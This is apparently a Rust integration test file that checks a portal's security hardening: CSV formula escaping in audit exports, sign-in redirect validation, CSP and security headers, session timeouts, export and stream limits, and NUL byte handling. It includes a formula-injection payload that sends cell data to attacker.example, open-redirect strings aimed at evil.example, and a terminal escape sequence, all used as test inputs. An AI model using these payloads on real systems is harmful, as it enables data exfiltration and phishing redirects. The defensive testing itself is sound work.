//! The web layer's hardening (security review, issue 14): formulas in the audit
//! CSV, the sign-in redirect, security headers, the idle timeout against live
//! streams, limits on exports and streams, capped step output, and NUL bytes.

use crate::helpers::*;
use crate::lab_portal::{command, settled, show, start};
use app::model::run::StepState;
use app::model::run_view::OutputPage;
use app::model::Role;
use app::ssr::engine::executor::{
    BoxFuture, CancelSignal, Emit, Ending, Executor, Finished, Job, OutputTx, SiteInfo,
};
use reqwest::StatusCode;
use sqlx::PgPool;
use std::sync::Arc;
use std::time::{Duration, Instant};

#[sqlx::test(migrations = "../migrations")]
async fn formulas_in_the_audit_csv_reach_the_auditor_as_text(pool: PgPool) {
    let app = spawn_app(pool).await;
    let ann = app.signed_in("ann", Role::Auditor).await;
    // An unauthenticated attacker picks the username of a failed sign-in.
    let formula = r#"=HYPERLINK("https://attacker.example/?"&F2,"x")"#;
    let r = app.browser().sign_in(formula, "wrong password").await;
    assert_ne!(r.status(), StatusCode::OK);
    // However sign-in records it, an actor can hold such text: written directly
    // too, so the export is tested whatever the sign-in records.
    app::ssr::audit::append_alone(
        &app.pool,
        app::ssr::audit::NewEvent::new(
            &app::ssr::audit::Actor::User(formula.to_string()),
            app::model::audit::AuditAction::AuditExported,
            "audit",
            serde_json::json!({}),
        ),
    )
    .await
    .unwrap();

    let csv = ann.get("/api/audit/export.csv").await.text().await.unwrap();
    let lines: Vec<&str> = csv
        .lines()
        .filter(|l| l.to_lowercase().contains("hyperlink"))
        .collect();
    assert!(!lines.is_empty(), "{csv}");
    for line in lines {
        // Cells are separated by commas outside quotes; a cell that starts with
        // `=` (or `+ - @`) would be a formula.
        let mut cells = Vec::new();
        let (mut cell, mut quoted) = (String::new(), false);
        for c in line.chars() {
            match c {
                '"' => {
                    quoted = !quoted;
                    cell.push(c)
                }
                ',' if !quoted => cells.push(std::mem::take(&mut cell)),
                _ => cell.push(c),
            }
        }
        cells.push(cell);
        for cell in &cells {
            let content = cell.strip_prefix('"').unwrap_or(cell);
            assert!(
                !content.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would evaluate: {cell} in {line}"
            );
        }
        assert!(
            line.contains(",\"'=hyperlink(") || line.contains(",\"'=HYPERLINK("),
            "{line}"
        );
    }
}

/// Signs in through the plain HTML form (no JavaScript) with `next`.
async fn sign_in_form(app: &TestApp, next: &str) -> reqwest::Response {
    let b = app.browser();
    b.http
        .post(format!("{}/api/auth/sign_in", b.base))
        .header("accept", "text/html")
        .form(&[("username", "olga"), ("password", PASSWORD), ("next", next)])
        .send()
        .await
        .unwrap()
}

#[sqlx::test(migrations = "../migrations")]
async fn the_sign_in_redirect_stays_on_the_portal(pool: PgPool) {
    let app = spawn_app(pool).await;
    app.add_user("olga", Role::Operator).await;
    for (next, expected) in [
        ("/\t/evil.example", "/"),
        ("/\n/evil.example", "/"),
        ("/\\evil.example", "/"),
        ("//evil.example", "/"),
        ("/.//evil.example", "/"),
        ("https:evil.example", "/"),
        ("/%09/evil.example", "/%09/evil.example"),
        ("/runs?filter=all", "/runs?filter=all"),
    ] {
        let r = sign_in_form(&app, next).await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "{next:?}");
        let location = r.headers()["location"].to_str().unwrap();
        assert_eq!(location, expected, "{next:?}");
        // As a browser reads it, against the portal's address.
        let followed = url::Url::parse(&app.base).unwrap().join(location).unwrap();
        assert_eq!(
            followed.host_str(),
            Some("127.0.0.1"),
            "{next:?} -> {followed}"
        );
    }
}

const SECURITY_HEADERS: [(&str, &str); 3] = [
    ("x-content-type-options", "nosniff"),
    ("x-frame-options", "DENY"),
    ("referrer-policy", "same-origin"),
];

fn assert_secured(r: &reqwest::Response, what: &str) -> String {
    for (name, value) in SECURITY_HEADERS {
        assert_eq!(
            r.headers().get(name).and_then(|v| v.to_str().ok()),
            Some(value),
            "{name} on {what}"
        );
    }
    let csp = r
        .headers()
        .get("content-security-policy")
        .unwrap_or_else(|| panic!("no CSP on {what}"))
        .to_str()
        .unwrap()
        .to_string();
    for part in [
        "default-src 'self'",
        "frame-ancestors 'none'",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'self'",
        "'wasm-unsafe-eval'",
    ] {
        assert!(csp.contains(part), "{part} missing on {what}: {csp}");
    }
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    csp
}

fn nonce_of(csp: &str) -> String {
    csp.split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .expect("a nonce in the policy")
        .to_string()
}

#[sqlx::test(migrations = "../migrations")]
async fn every_response_carries_the_security_headers(pool: PgPool) {
    let site = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(site.path().join("pkg")).unwrap();
    std::fs::write(site.path().join("pkg/recovery-portal.js"), "export {};").unwrap();
    let root = site.path().display().to_string();
    let app = spawn_app_with(pool, &[("PORTAL_SITE_ROOT", &root)]).await;
    let anon = app.browser();

    // A page: its inline scripts carry the nonce the policy names.
    let r = anon.get("/login").await;
    assert_eq!(r.status(), StatusCode::OK);
    let csp = assert_secured(&r, "/login");
    let nonce = nonce_of(&csp);
    let html = r.text().await.unwrap();
    assert!(
        html.contains(&format!("nonce=\"{nonce}\"")),
        "the page's scripts do not carry the policy's nonce {nonce}: {html}"
    );
    assert!(!html.contains("<script>"), "an inline script without nonce");
    // A second page gets another nonce.
    let again = nonce_of(&assert_secured(&anon.get("/login").await, "/login"));
    assert_ne!(nonce, again);

    let r = anon.get("/healthz").await;
    assert_secured(&r, "/healthz");
    let r = anon.call("/api/auth/me", &[]).await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_secured(&r, "/api/auth/me");
    let r = anon.get("/pkg/recovery-portal.js").await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_secured(&r, "/pkg/recovery-portal.js");
    let r = anon.get("/pkg/missing.js").await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert_secured(&r, "a missing file");
    let r = anon.get("/no/such/page").await;
    assert_secured(&r, "an unknown page");
    // Refused by the CSRF check.
    let r = reqwest::Client::new()
        .post(format!("{}/api/auth/me", app.base))
        .header("origin", "https://evil.example")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert_secured(&r, "a refused POST");

    let ann = app.signed_in("ann", Role::Auditor).await;
    let r = ann.get("/api/approvals/live").await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_secured(&r, "/api/approvals/live");
    drop(r);
    let r = ann.get("/api/audit/export.csv").await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_secured(&r, "/api/audit/export.csv");
    let r = ann.get("/audit").await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_secured(&r, "/audit");
}

async fn session_expiry(pool: &PgPool) -> Vec<time::OffsetDateTime> {
    sqlx::query_scalar("SELECT expiry_date FROM tower_sessions.session ORDER BY id")
        .fetch_all(pool)
        .await
        .unwrap()
}

/// Reads a live stream's first event, so the server has answered it.
async fn first_event(r: &mut reqwest::Response) {
    let chunk = tokio::time::timeout(Duration::from_secs(10), r.chunk())
        .await
        .expect("an event in time")
        .unwrap()
        .expect("the stream is open");
    assert!(String::from_utf8_lossy(&chunk).contains("changed"));
}

#[sqlx::test(migrations = "../migrations")]
async fn live_streams_do_not_keep_an_idle_session_alive(pool: PgPool) {
    let app = spawn_app_with(pool, &[("PORTAL_SESSION_IDLE_MINUTES", "1")]).await;
    let sam = app.signed_in("sam", Role::Supervisor).await;
    let signed_in = session_expiry(&app.pool).await;
    assert_eq!(signed_in.len(), 1);

    // What an open tab does on its own: live streams (reconnecting) and the
    // navigation's count. None of it moves the idle expiry.
    for _ in 0..3 {
        let mut r = sam.get("/api/approvals/live").await;
        assert_eq!(r.status(), StatusCode::OK);
        first_event(&mut r).await;
        drop(r);
        let r = sam.call("/api/approvals/count", &[]).await;
        assert_eq!(r.status(), StatusCode::OK);
        // Nor do the re-reads an open page makes when its stream says something changed.
        let r = sam.call("/api/approvals/refresh", &[]).await;
        assert_eq!(r.status(), StatusCode::OK);
        let r = sam.call("/api/audit/refresh", &[]).await;
        assert_eq!(r.status(), StatusCode::OK);
        let mut r = sam.get("/api/audit/live").await;
        assert_eq!(r.status(), StatusCode::OK);
        first_event(&mut r).await;
    }
    assert_eq!(session_expiry(&app.pool).await, signed_in);

    // A person's request does.
    let r = sam.get("/runs").await;
    assert_eq!(r.status(), StatusCode::OK);
    let used = session_expiry(&app.pool).await;
    assert!(used[0] > signed_in[0], "{used:?} after {signed_in:?}");
    assert_eq!(sam.me().await.as_deref(), Some("sam"));

    // A stream open when the session expires ends, and the session is over.
    let mut stream = sam.get("/api/approvals/live").await;
    assert_eq!(stream.status(), StatusCode::OK);
    first_event(&mut stream).await;
    sqlx::query("UPDATE tower_sessions.session SET expiry_date = now() - interval '1 second'")
        .execute(&app.pool)
        .await
        .unwrap();
    let deadline = Instant::now() + app_live_check() * 3;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, stream.chunk()).await {
            Ok(Ok(None)) | Ok(Err(_)) => break,
            Ok(Ok(Some(_))) => continue,
            Err(_) => panic!("the stream outlived its session"),
        }
    }
    assert_eq!(sam.me().await, None);
    let r = sam.get("/api/approvals/live").await;
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
}

fn app_live_check() -> Duration {
    server::web::live::SESSION_CHECK
}

#[sqlx::test(migrations = "../migrations")]
async fn exports_beyond_the_limit_are_refused_and_the_database_stays_free(pool: PgPool) {
    let app = spawn_app(pool).await;
    let auditors = [
        app.signed_in("ann", Role::Auditor).await,
        app.signed_in("bea", Role::Auditor).await,
        app.signed_in("cid", Role::Auditor).await,
    ];
    // Enough events that an export does not fit in the sockets' buffers.
    sqlx::query(
        "INSERT INTO audit_events (id, at, actor, action, subject, details, prev_hash, hash) \
         SELECT h.m + g, now(), 'filler', 'test.filler', 'filler', jsonb_build_object('pad', repeat('x', 1000)), \
                lpad(to_hex(1000000 + g - 1), 64, '0'), lpad(to_hex(1000000 + g), 64, '0') \
         FROM (SELECT max(id) AS m FROM audit_events) h, generate_series(1, 30000) g",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    let total: i64 = sqlx::query_scalar("SELECT count(*) FROM audit_events")
        .fetch_one(&app.pool)
        .await
        .unwrap();

    // Two exports (the default limit) started and never read.
    let unread = [
        auditors[0].get("/api/audit/export.csv").await,
        auditors[1].get("/api/audit/export.jsonl").await,
    ];
    for r in &unread {
        assert_eq!(r.status(), StatusCode::OK);
    }
    for b in &auditors {
        let r = b.get("/api/audit/export.csv").await;
        assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
        let text = r.text().await.unwrap();
        assert!(text.contains("already running"), "{text}");
        assert!(text.contains("Try again"), "{text}");
    }
    // Nothing else waits for the database meanwhile.
    for _ in 0..20 {
        let started = Instant::now();
        let r = auditors[2].get("/healthz").await;
        assert_eq!(r.status(), StatusCode::OK);
        assert!(started.elapsed() < Duration::from_secs(1));
    }
    let r = auditors[2].call("/api/audit/events", &[]).await;
    assert_eq!(r.status(), StatusCode::OK);

    // Once one is read to its end, another may start; it is whole, page by page.
    let [first, second] = unread;
    let csv = first.text().await.unwrap();
    assert!(csv.lines().count() as i64 > total, "{}", csv.len());
    let ids: Vec<i64> = csv
        .lines()
        .skip(1)
        .map(|l| l.split(',').next().unwrap().parse().unwrap())
        .collect();
    assert!(
        ids.windows(2).all(|w| w[1] == w[0] + 1),
        "ids in order, none missing"
    );
    drop(second);
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let r = auditors[2].get("/api/audit/export.csv?actor=filler").await;
        if r.status() == StatusCode::OK {
            assert_eq!(r.text().await.unwrap().lines().count(), 30001);
            break;
        }
        assert!(Instant::now() < deadline, "the permits were not given back");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[sqlx::test(migrations = "../migrations")]
async fn a_user_may_hold_only_so_many_live_streams(pool: PgPool) {
    let app = spawn_app_with(pool, &[("PORTAL_MAX_LIVE_STREAMS_PER_USER", "2")]).await;
    let ann = app.signed_in("ann", Role::Supervisor).await;
    let bob = app.signed_in("bob", Role::Operator).await;
    let mut open = Vec::new();
    for path in ["/api/approvals/live", "/api/runs/1/live"] {
        let r = ann.get(path).await;
        assert_eq!(r.status(), StatusCode::OK, "{path}");
        open.push(r);
    }
    for path in ["/api/approvals/live", "/api/audit/live", "/api/runs/1/live"] {
        let r = ann.get(path).await;
        assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS, "{path}");
        let text = r.text().await.unwrap();
        assert!(text.contains("2 live views open"), "{text}");
    }
    // Counted per user.
    let r = bob.get("/api/approvals/live").await;
    assert_eq!(r.status(), StatusCode::OK);
}

/// A stand-in for the hosts: `flood` prints [`FLOOD`] bytes, `nul` prints a
/// line with a NUL byte in it.
struct Noisy;

const FLOOD: usize = 5 * 1024 * 1024;

fn flood_bytes() -> Vec<u8> {
    const LINE: &[u8] = b"the quick brown fox jumps over the lazy dog 0123456789\n";
    (0..FLOOD).map(|i| LINE[i % LINE.len()]).collect()
}

impl Executor for Noisy {
    fn sites(&self) -> Vec<SiteInfo> {
        vec![SiteInfo {
            name: "lab".into(),
            description: "a fake site".into(),
            openstack: false,
        }]
    }

    fn execute(
        &self,
        _run_id: i64,
        _site: &str,
        job: Job,
        output: OutputTx,
        _cancel: CancelSignal,
    ) -> BoxFuture<Result<Finished, String>> {
        Box::pin(async move {
            let Job::Shell { command, .. } = job else {
                return Err("only shell jobs here".into());
            };
            let bytes = if command.contains("flood") {
                flood_bytes()
            } else {
                b"value=a\0b\n".to_vec()
            };
            for piece in bytes.chunks(32 * 1024) {
                output
                    .output(Emit::Output {
                        stderr: false,
                        bytes: piece.to_vec(),
                    })
                    .await;
            }
            Ok(Finished {
                ending: Ending::Exited,
                exit_status: Some(0),
                transfer: None,
            })
        })
    }

    fn end_run(&self, _run_id: i64) {}
}

const NOISY: &str = r#"
id = "noisy"
title = "Noisy"
description = "Steps that print a lot, or a NUL byte."
expected_duration_minutes = 1

[[steps]]
id = "flood"
title = "Print a lot"
kind = "ssh"
host = "cluman"
command = "flood"
timeout_seconds = 60

[[steps]]
id = "nul"
title = "Print a NUL"
kind = "ssh"
host = "cluman"
command = "nul"
timeout_seconds = 60
captures = [{ name = "value", regex = "value=(\\S+)" }]

[[steps]]
id = "sign-off"
title = "Sign off"
kind = "manual"
observation = "required"
records = "note"
"#;

const CAP: usize = 2 * 1024 * 1024;

async fn noisy_portal(pool: PgPool) -> TestApp {
    let runbook = runbook::load_str("noisy.toml", NOISY).expect("the test runbook loads");
    let cap = CAP.to_string();
    spawn_app_with_executor(
        pool,
        &[("PORTAL_MAX_OUTPUT_BYTES_PER_ATTEMPT", &cap)],
        vec![runbook],
        Arc::new(Noisy),
    )
    .await
}

#[sqlx::test(migrations = "../migrations")]
async fn long_output_is_capped_counted_hashed_and_paged(pool: PgPool) {
    use sha2::Digest;
    let app = noisy_portal(pool).await;
    let olga = app.signed_in("olga", Role::Operator).await;
    let run = start(&olga, "noisy", &[]).await;
    let r = command(&olga, run, 0, "run", "").await;
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    let v = settled(&olga, run, 0).await;
    let attempt = v.steps[0].attempts.last().unwrap().clone();
    let outcome = attempt.outcome.clone().unwrap();
    assert_eq!(v.steps[0].state, StepState::Succeeded, "{outcome:?}");

    // Stored: the cap; counted and hashed: everything.
    let stored: i64 = sqlx::query_scalar(
        "SELECT sum(octet_length(data))::bigint FROM step_output WHERE attempt_id = $1",
    )
    .bind(attempt.id)
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!(stored as usize, CAP);
    let totals = outcome.output.clone().expect("the output's totals");
    let whole = flood_bytes();
    assert_eq!(totals.bytes as usize, FLOOD);
    assert_eq!(totals.stored_bytes as usize, CAP);
    assert_eq!(totals.sha256, hex::encode(sha2::Sha256::digest(&whole)));
    assert_eq!(
        totals.truncation_note().unwrap(),
        format!(
            "output truncated after {CAP} bytes; {FLOOD} bytes in all, SHA-256 {}",
            totals.sha256
        )
    );
    // The run page shows where it was cut.
    let page = olga
        .get(&format!("/runs/{run}"))
        .await
        .text()
        .await
        .unwrap();
    assert!(page.contains(&format!("output truncated after {CAP} bytes")));
    assert!(
        page.contains("bytes of earlier output are not shown"),
        "the run page offers the earlier output"
    );

    // The run view holds the last mebibyte only, and says what is before it.
    let shown: String = attempt.output.iter().map(|c| c.text.as_str()).collect();
    assert!(shown.len() <= 1024 * 1024 + 32 * 1024, "{}", shown.len());
    assert_eq!(attempt.earlier_bytes as usize + shown.len(), CAP);
    // Earlier output comes a page at a time, until the beginning.
    let mut text = shown;
    let (mut before, mut left) = (attempt.loaded_from_seq, attempt.earlier_bytes);
    while left > 0 {
        let r = olga
            .call(
                "/api/runs/output",
                &[
                    ("attempt", &attempt.id.to_string()),
                    ("before_seq", &before.to_string()),
                ],
            )
            .await;
        assert_eq!(r.status(), StatusCode::OK);
        let page: OutputPage = r.json().await.unwrap();
        let earlier: String = page.chunks.iter().map(|c| c.text.as_str()).collect();
        assert!(!earlier.is_empty() && earlier.len() <= 1024 * 1024 + 32 * 1024);
        text = earlier + &text;
        (before, left) = (page.from_seq, page.earlier_bytes);
    }
    assert_eq!(text.as_bytes(), &whole[..CAP]);
}

#[sqlx::test(migrations = "../migrations")]
async fn nul_bytes_neither_break_steps_nor_reach_the_database(pool: PgPool) {
    let app = noisy_portal(pool).await;
    let olga = app.signed_in("olga", Role::Operator).await;
    let run = start(&olga, "noisy", &[]).await;
    let r = command(&olga, run, 0, "skip", "not this time").await;
    assert_eq!(r.status(), StatusCode::OK);

    // Remote output with a NUL: the step completes and its capture is kept.
    let r = command(&olga, run, 1, "run", "").await;
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    let v = settled(&olga, run, 1).await;
    assert_eq!(v.steps[1].state, StepState::Succeeded, "{:?}", v.steps[1]);
    let outcome = v.steps[1].attempts[0].outcome.clone().unwrap();
    assert_eq!(outcome.captures["value"], "a\u{FFFD}b");
    let raw: Vec<u8> = sqlx::query_scalar("SELECT data FROM step_output WHERE attempt_id = $1")
        .bind(v.steps[1].attempts[0].id)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(
        raw, b"value=a\0b\n",
        "the output itself is kept byte for byte"
    );

    // A NUL typed into a form: refused with what is wrong, nothing changes.
    let r = command(&olga, run, 2, "confirm", "a\u{0}b").await;
    let (status, body) = error_text(r).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    let text = body.to_string();
    assert!(text.contains("Observation"), "{text}");
    assert!(text.contains("U+0000"), "{text}");
    let v = show(&olga, run).await;
    assert_eq!(v.steps[2].state, StepState::Pending);
    assert!(v.steps[2].attempts.is_empty());
    for (cmd, field) in [("request_approval", "Justification"), ("skip", "Reason")] {
        let r = command(&olga, run, 2, cmd, "x\u{1b}[2J").await;
        let (status, body) = error_text(r).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{cmd}: {body}");
        assert!(body.to_string().contains(field), "{cmd}: {body}");
    }
    let r = olga
        .call(
            "/api/runs/cancel",
            &[("run", &run.to_string()), ("reason", "a\u{0}")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);

    // The step is not stuck: a clean observation confirms it.
    let r = command(&olga, run, 2, "confirm", "all fine\r\nreally").await;
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    let v = show(&olga, run).await;
    assert_eq!(v.steps[2].state, StepState::Succeeded);
    let outcome = v.steps[2].attempts[0].outcome.clone().unwrap();
    assert_eq!(outcome.observation.as_deref(), Some("all fine\nreally"));
}
